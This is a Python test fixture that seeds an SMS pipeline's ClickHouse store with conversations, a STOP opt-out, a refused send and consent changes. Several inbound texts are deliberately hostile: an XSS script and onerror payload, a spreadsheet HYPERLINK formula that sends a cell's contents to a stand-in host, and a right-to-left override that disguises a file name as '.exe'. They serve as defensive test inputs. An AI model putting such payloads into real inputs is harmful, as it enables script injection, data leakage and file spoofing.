"""A store with something of everything in it: conversations, a stop, a refusal, hostile texts."""

from __future__ import annotations

import asyncio
import itertools
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any, Final

import msgspec

from pipeline.records import (
    ConsentChange,
    DeadLetter,
    MoMessage,
    MoPart,
    MoRaw,
    MtCommand,
    MtRejection,
    MtRequest,
    MtResult,
    MtState,
    Record,
)
from pipeline.store.clickhouse.writer import ClickHouseWriter
from pipeline.store.decoding import TABLE_OF, TableRows
from pipeline.store.rows import columns_of, row_from_record
from tests.store.samples import SAMPLES

if TYPE_CHECKING:
    from collections.abc import Mapping

    from pipeline.store.clickhouse.database import Database

NOON: Final = datetime(2026, 3, 4, 12, 0, 0, tzinfo=UTC)
ALICE, BOB, CARLA, DINA = "447700900001", "447700900002", "27820000003", "966500000004"
SHORT_CODE = "88801"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
ARABIC = "مرحبا، أريد أن أعرف موعد التسليم 123"
OVERRIDE = "abc\u202egnp.exe\u202c and \0NUL"
REFUSED_TEXT = "Your parcel waits at the counter"

_BLOCKS: Final = itertools.count()


def sample(kind: type[Record]) -> Any:
    """The sample record of a class."""
    return next(each for each in SAMPLES if type(each) is kind)


def changed(kind: type[Record], **fields: Any) -> Any:
    """The sample, with some fields of its own."""
    return msgspec.structs.replace(sample(kind), **fields)


def message(id: str, handset: str, text: str, minutes: float, **fields: Any) -> Any:
    """A whole message in, with an id of 32 digits."""
    at = NOON + timedelta(minutes=minutes)
    given = {
        "message_id": id * 32,
        "part_ids": [f"part{id}"],
        "handset": handset,
        "number": SHORT_CODE,
        "text": text,
        "octets": text.encode("utf-16-be", "replace"),
        "charset": "UTF-16BE",
        "gateway_time": at,
        "received_at": at + timedelta(seconds=2),
        "parts_total": 1,
        "parts_missing": [],
        "complete": True,
        "lossy": False,
        "flags": [],
    }
    return changed(MoMessage, **(given | fields))


def command(id: str, handset: str, text: str, minutes: float, **fields: Any) -> Any:
    """A command that passed the gate."""
    at = NOON + timedelta(minutes=minutes)
    given = {
        "command_id": id * 32,
        "request_id": f"order-{id}",
        "handset": handset,
        "sender_id": SHORT_CODE,
        "text": text,
        "at": at,
        "not_after": at + timedelta(days=1),
    }
    return changed(MtCommand, **(given | fields))


def state(id: str, handset: str, name: str, minutes: float, **fields: Any) -> Any:
    """How a command stood at a time."""
    given = {
        "state_id": f"{id}{name}".ljust(32, "0")[:32],
        "command_id": id * 32,
        "request_id": f"order-{id}",
        "handset": handset,
        "state": name,
        "code": "",
        "words": "",
        "behind": "",
        "at": NOON + timedelta(minutes=minutes),
        "ask_gateway": False,
    }
    return changed(MtState, **(given | fields))


def change(handset: str, now: str, gateway: str, rule: str, minutes: float, **fields: Any) -> Any:
    """A change of consent at the short code."""
    at = NOON + timedelta(minutes=minutes)
    given = {
        "change_id": f"{rule}{minutes}".encode().hex().ljust(32, "0")[:32],
        "handset": handset,
        "scope": SHORT_CODE,
        "state": now,
        "gateway_state": gateway,
        "rule": rule,
        "number": SHORT_CODE,
        "at": at,
        "recorded_at": at + timedelta(seconds=3),
        "actor": "",
        "reason": "",
    }
    return changed(ConsentChange, **(given | fields))


def scene() -> list[Record]:
    """Everything, in the order of time."""
    return [
        message("1", ALICE, "Hello, when does my parcel come? \U0001f4e6\U0001f44b\U0001f3fd", 0),
        changed(
            MoPart, part_id="part1", handset=ALICE, number=SHORT_CODE, gateway_time=NOON,
            received_at=NOON, raw_partition=0, raw_offset=2, parts_total=1, part_number=1,
        ),
        changed(MoRaw, received_at=NOON),
        command("a", ALICE, "It comes tomorrow between 9 and 11.", 1),
        state("a", ALICE, "waiting", 1),
        state("a", ALICE, "permitted", 1.1),
        changed(
            MtResult, command_id="a" * 32, handset=ALICE, at=NOON + timedelta(minutes=1.2),
            request_id="order-a",
        ),
        state("a", ALICE, "submitted", 1.2, code="003"),
        state("a", ALICE, "delivered", 1.5, code="004", words="received by the handset"),
        message("2", ALICE, "STOP", 3),
        change(ALICE, "stopped", "confirmation-due", "stop-word", 3, mo_message_id="2" * 32),
        changed(
            MtRequest, request_id="late", to=f"+{ALICE}", text=REFUSED_TEXT,
            requested_at=NOON + timedelta(minutes=4),
        ),
        changed(
            MtRejection, rejection_id="4" * 32, request_id="late", handset=ALICE,
            sender_id=SHORT_CODE, rule="opted-out", detail="stopped since 12:03",
            at=NOON + timedelta(minutes=4), mo_message_id="2" * 32,
        ),
        message("3", BOB, MARKUP, 5),
        message("4", BOB, FORMULA, 6),
        message("5", BOB, OVERRIDE, 7),
        message("6", BOB, "please do not cancel my order", 8, flags=["review"]),
        command("b", BOB, "Your order is kept.", 9),
        state("b", BOB, "failed", 9.5, code="114", words="cannot route message"),
        message("7", DINA, ARABIC, 10, number="88802"),
        message(
            "8", CARLA, "c3017f00ff", 11, charset="8-BIT", octets=bytes.fromhex("c3017f00ff"),
            complete=False, parts_missing=[2], parts_total=3, flags=["unknown-number"],
        ),
        command("c", CARLA, "Wait for it " * 12, 12, not_after=NOON + timedelta(days=90_000)),
        state("c", CARLA, "waiting", 12, retry_at=NOON + timedelta(hours=3)),
        change(CARLA, "stopped", "open", "operator", 13, actor="anna", reason="Asked by letter."),
        changed(DeadLetter, key=b"\xff", at=NOON, words="to is absent"),
    ]  # fmt: skip


def store_scene(database: Database, records: list[Record]) -> None:
    """Store the records of a class in one block; each was written when its time says."""
    rows: dict[type[Record], list[Any]] = {}
    for offset, record in enumerate(records):
        key = str(getattr(record, "handset", ALICE)).encode()
        row = row_from_record(
            record, key=key, partition=0, offset=offset, written_ms=int(NOON.timestamp() * 1e3)
        )
        rows.setdefault(type(record), []).append(row)
    asyncio.run(_insert(database, rows))


async def _insert(database: Database, rows: Mapping[type[Record], list[Any]]) -> None:
    writer = ClickHouseWriter(database.writing)
    for kind, block in rows.items():
        inserted = TableRows(TABLE_OF[kind], columns_of(kind), block)
        await writer.insert(inserted, tag=f"scene {next(_BLOCKS)}")
    writer.close()
